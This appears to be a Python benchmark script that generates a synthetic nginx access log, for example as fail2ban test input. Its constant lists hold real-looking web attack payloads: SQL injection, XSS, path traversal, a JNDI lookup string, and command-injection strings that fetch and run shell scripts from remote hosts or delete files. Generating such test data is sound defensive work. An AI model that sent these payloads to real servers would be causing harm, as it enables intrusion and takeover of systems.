#!/usr/bin/env python3
"""Seeded generator of a realistic nginx access log ("combined" format) for benchmarks.

What the data models (shares by line, approximate):
  ~92%  normal browsing: ~20,000 client addresses with Zipf-like activity (a few heavy users,
        a long tail) asking for pages, assets (css/js/images/fonts, ~half the lines), search and
        product pages with query strings, a JSON API, conditional requests (304), redirects
        (301/302), the odd 404 (favicon, stale links) and 499/500/502; browser user agents
        (Chrome, Firefox, Safari, Edge, mobile), crawlers (Googlebot, bingbot) and tools
        (curl, python-requests), realistic referrers and body sizes.
  ~4%   scanner probes: bursts of 5-40 requests from one address for paths no site serves
        (/wp-login.php, /.env, /.git/config, /phpmyadmin/, /cgi-bin/..., /actuator/...),
        answered 404 (sometimes 403), scanner user agents (zgrab, Nuclei, masscan, l9explore).
  ~1.5% attack payloads in the URL: SQL injection (UNION SELECT, tautologies, sleep()), XSS
        (<script>, onerror=, javascript:), path traversal (../, %2e%2e%2f, /etc/passwd) and
        command injection (;wget http..., ${jndi:...}), raw and %-encoded as tools send them.
  ~1.5% 401 bursts: one address guessing HTTP basic-auth passwords on /admin/ or /api/login,
        5-30 requests in a row, each answered 401.
  ~0.3% 400 bad requests (TLS handshakes on the plain port, empty requests) as nginx logs them.
Timestamps start at --start and advance by exponential gaps so that --lines lines span
--hours hours (default 24 h per 1,000,000 lines: ~11.6 lines/s whatever the size).

Same --seed and options, same bytes: the benchmark input is reproducible.

Usage:
  bench/gen_nginx_log.py -o /tmp/nginx-1m.log                     # 1,000,000 lines, seed 8
  bench/gen_nginx_log.py --lines 200000 --seed 1 -o /tmp/small.log
  head -n 200000 /tmp/nginx-1m.log > /tmp/nginx-200k.log          # the prefix fail2ban reads
"""
import argparse
import bisect
import datetime
import itertools
import random
import sys

MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.39 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-A536B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
]
BOT_UAS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Prometheus/2.45.0",
]
SCANNER_UAS = [
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (l9explore/1.2.2; +https://github.com/LeakIX/l9explore)",
    "Go-http-client/1.1",
    "-",
]
PAGES = (["/", "/index.html", "/about", "/contact", "/pricing", "/faq", "/login", "/cart",
          "/checkout", "/account/orders", "/news", "/careers", "/docs/getting-started",
          "/docs/api/reference", "/support"]
         + ["/blog/2026/%02d/%s" % (m, s) for m in range(1, 12)
            for s in ("release-notes", "security-update", "how-we-scale", "customer-story")]
         + ["/products/%d" % n for n in range(1000, 1400)]
         + ["/category/%s" % c for c in ("shoes", "jackets", "bags", "hats", "outdoor", "sale")])
ASSETS = ["/static/css/app.4f3a9c.css", "/static/js/app.8d21e0.js", "/static/js/vendor.1b7f33.js",
          "/static/fonts/inter-var.woff2", "/favicon.ico", "/static/img/logo.svg",
          "/apple-touch-icon.png"] + ["/images/products/%d-%s.webp" % (n, s)
                                      for n in range(1000, 1400) for s in ("main", "thumb")]
API = ["/api/v1/cart", "/api/v1/session", "/api/v1/products?page=%d", "/api/v1/recommendations",
       "/api/v1/stock/%d", "/healthz", "/metrics"]
SEARCH_TERMS = ["winter jacket", "running shoes", "gift card", "return policy", "size guide",
                "waterproof", "leather bag", "kids", "sale", "black friday"]
REFERRERS = ["https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/",
             "https://t.co/abc123", "https://www.facebook.com/", "https://news.ycombinator.com/"]
PROBE_PATHS = [
    "/wp-login.php", "/wp-admin/setup-config.php", "/xmlrpc.php", "/wp-content/plugins/wp-file-manager/readme.txt",
    "/.env", "/.env.production", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store",
    "/.aws/credentials", "/phpmyadmin/", "/phpMyAdmin/index.php", "/pma/", "/myadmin/",
    "/mysqladmin/", "/adminer.php", "/phpinfo.php", "/server-status", "/cgi-bin/luci",
    "/cgi-bin/test.cgi", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/actuator/env", "/actuator/health", "/manager/html", "/solr/admin/info/system",
    "/boaform/admin/formLogin", "/HNAP1/", "/shell.php", "/config.php.bak", "/backup.sql",
    "/db.sql", "/web.config", "/.htpasswd", "/roundcube/", "/webmail/", "/horde/",
    "/owa/auth/logon.aspx", "/remote/login", "/api/v2/cmdb/system/admin", "/geoserver/web/",
    "/.well-known/security.txt", "/robots.txt", "/sitemap.xml", "/admin/", "/login.action",
]
SQLI = [
    "/products.php?id=1%20UNION%20SELECT%201,2,concat(user(),0x3a,version())--",
    "/products/1027?sort=price'+or+1=1--",
    "/search?q=1%27%20OR%20%271%27%3D%271",
    "/item?id=1+AND+SLEEP(5)",
    "/news?id=-1'+union+all+select+null,table_name+from+information_schema.tables--+",
    "/index.php?cat=1%20AND%20extractvalue(1,concat(0x7e,(SELECT%20@@version)))",
    "/api/v1/products?page=1;waitfor%20delay%20'0:0:5'--",
    "/login?user=admin'--&pass=x",
]
XSS = [
    "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/search?q=<script>alert(document.cookie)</script>",
    "/products/1100?ref=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E",
    "/comment?text=<img%20src=x%20onerror=alert(1)>",
    "/redirect?url=javascript:alert(1)",
    "/search?q=%22onmouseover%3Dalert(1)%20x%3D%22",
]
TRAVERSAL = [
    "/static/../../../../etc/passwd",
    "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/index.php?page=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/view?template=....//....//....//proc/self/environ",
    "/assets/..%252e%252e/..%252e%252e/windows/win.ini",
]
CMDI = [
    "/cgi-bin/ping.cgi?ip=127.0.0.1;wget+http://198.51.100.23/x.sh+-O-|sh",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.23/bins.sh;chmod+777+bins.sh;sh+bins.sh",
    "/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
    "/api/v1/session?x=${jndi:ldap://198.51.100.9:1389/a}",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.4/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
]
AUTH_PATHS = ["/admin/", "/api/login", "/private/reports/", "/grafana/login", "/jenkins/j_acegi_security_check"]
AUTH_USERS = ["admin", "root", "user", "test", "administrator", "guest", "-"]


def public_ipv4(rng):
    """A random unicast address outside private/reserved ranges (good enough for logs)."""
    while True:
        a = rng.randint(1, 223)
        if a in (10, 100, 127, 169, 172, 192, 198, 203):
            continue
        return "%d.%d.%d.%d" % (a, rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254))


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--lines", type=int, default=1_000_000, help="lines to write (default 1,000,000)")
    ap.add_argument("--seed", type=int, default=8, help="random seed (default 8)")
    ap.add_argument("--start", default="2026-11-29T00:00:00", help="first timestamp, UTC")
    ap.add_argument("--hours", type=float, default=None,
                    help="time the log spans (default 24 h per 1,000,000 lines, ~11.6 lines/s)")
    ap.add_argument("-o", "--output", default="-", help="output file (default stdout)")
    args = ap.parse_args()
    if args.hours is None:
        args.hours = 24.0 * args.lines / 1_000_000

    rng = random.Random(args.seed)
    clients = [public_ipv4(rng) for _ in range(20_000)]
    # Zipf-like weights: client i gets weight 1/(i+1)^0.9, sampled through a cumulative table.
    cum = list(itertools.accumulate(1.0 / (i + 1) ** 0.9 for i in range(len(clients))))
    total = cum[-1]
    client_uas = {}
    scanner_pool = [public_ipv4(rng) for _ in range(3_000)]

    t = datetime.datetime.fromisoformat(args.start).replace(tzinfo=datetime.timezone.utc).timestamp()
    mean_gap = args.hours * 3600.0 / max(args.lines, 1)
    time_cache = {}

    def stamp(ts):
        sec = int(ts)
        s = time_cache.get(sec)
        if s is None:
            d = datetime.datetime.fromtimestamp(sec, datetime.timezone.utc)
            s = "%02d/%s/%04d:%02d:%02d:%02d +0000" % (d.day, MONTHS[d.month - 1], d.year,
                                                       d.hour, d.minute, d.second)
            if len(time_cache) > 4096:
                time_cache.clear()
            time_cache[sec] = s
        return s

    out = sys.stdout if args.output == "-" else open(args.output, "w", buffering=1 << 20)
    buf = []
    burst = []  # pending lines of the current scanner / 401 burst: (ip, method, path, status, ua)
    written = 0
    r = rng.random
    while written < args.lines:
        t += rng.expovariate(1.0 / mean_gap)
        if burst:
            ip, method, path, status, size, ref, ua = burst.pop()
        else:
            x = r()
            if x < 0.0020:  # scanner burst, ~22 lines on average: ~4% of lines
                ip = rng.choice(scanner_pool)
                ua = rng.choice(SCANNER_UAS)
                n = rng.randint(5, 40)
                paths = rng.sample(PROBE_PATHS, min(n, len(PROBE_PATHS)))
                for p in paths:
                    status = 404 if r() < 0.85 else (403 if r() < 0.7 else 200)
                    burst.append((ip, "GET" if r() < 0.9 else "POST", p, status,
                                  rng.randint(150, 560), "-", ua))
                continue
            elif x < 0.0029:  # 401 burst, ~17 lines on average: ~1.5% of lines: basic-auth guessing
                ip = rng.choice(scanner_pool)
                ua = rng.choice(["Mozilla/5.0", "python-requests/2.28.1", "Hydra", "curl/7.68.0"])
                path = rng.choice(AUTH_PATHS)
                method = "POST" if path.startswith("/api") or "security" in path else "GET"
                for _ in range(rng.randint(5, 30)):
                    burst.append((ip, method, path, 401, rng.randint(170, 600), "-", ua))
                continue
            elif x < 0.0179:  # attack payloads in the URL
                ip = rng.choice(scanner_pool)
                kind = rng.random()
                lst = SQLI if kind < 0.4 else XSS if kind < 0.65 else TRAVERSAL if kind < 0.85 else CMDI
                path = rng.choice(lst)
                status = rng.choice((400, 403, 404, 404, 200, 500))
                ua = rng.choice(SCANNER_UAS + ["sqlmap/1.7.2#stable (https://sqlmap.org)"])
                method, size, ref = "GET", rng.randint(150, 4000), "-"
            elif x < 0.0209:  # 400 bad request
                ip = rng.choice(scanner_pool)
                buf.append('%s - - [%s] "%s" 400 %d "-" "-"\n' % (
                    ip, stamp(t), rng.choice(["-", "\\x16\\x03\\x01\\x00\\xee\\x01\\x00\\x00\\xea\\x03\\x03",
                                              "GET / HTTP/1.1\\x00", "SSH-2.0-Go"]), 157))
                written += 1
                continue
            else:  # normal browsing
                i = bisect.bisect_left(cum, r() * total)
                ip = clients[min(i, len(clients) - 1)]
                ua = client_uas.get(ip)
                if ua is None:
                    ua = rng.choice(BROWSER_UAS) if r() < 0.9 else rng.choice(BOT_UAS)
                    client_uas[ip] = ua
                y = r()
                method, ref = "GET", "-"
                if y < 0.30:
                    path = rng.choice(PAGES)
                    ref = rng.choice(REFERRERS) if r() < 0.3 else "https://shop.example.com/"
                    size = rng.randint(8_000, 95_000)
                elif y < 0.78:
                    path = rng.choice(ASSETS)
                    ref = "https://shop.example.com" + rng.choice(PAGES)
                    size = rng.randint(400, 350_000)
                elif y < 0.86:
                    path = "/search?q=%s&page=%d" % (rng.choice(SEARCH_TERMS).replace(" ", "+"),
                                                     rng.randint(1, 5))
                    ref = "https://shop.example.com/"
                    size = rng.randint(9_000, 60_000)
                else:
                    path = rng.choice(API)
                    if "%d" in path:
                        path = path % rng.randint(1, 400)
                    method = "POST" if path in ("/api/v1/cart", "/api/v1/session") and r() < 0.5 else "GET"
                    ref = "https://shop.example.com/cart"
                    size = rng.randint(2, 4_000)
                z = r()
                status = (200 if z < 0.80 else 304 if z < 0.90 else 301 if z < 0.93 else
                          302 if z < 0.955 else 404 if z < 0.985 else 499 if z < 0.99 else
                          500 if z < 0.995 else 502)
                if status in (304, 301, 302, 499):
                    size = 0 if status != 301 else 162
        buf.append('%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"\n' % (
            ip, stamp(t), method, path, status, size, ref, ua))
        written += 1
        if len(buf) >= 8192:
            out.write("".join(buf))
            buf.clear()
    out.write("".join(buf))
    if out is not sys.stdout:
        out.close()


if __name__ == "__main__":
    main()
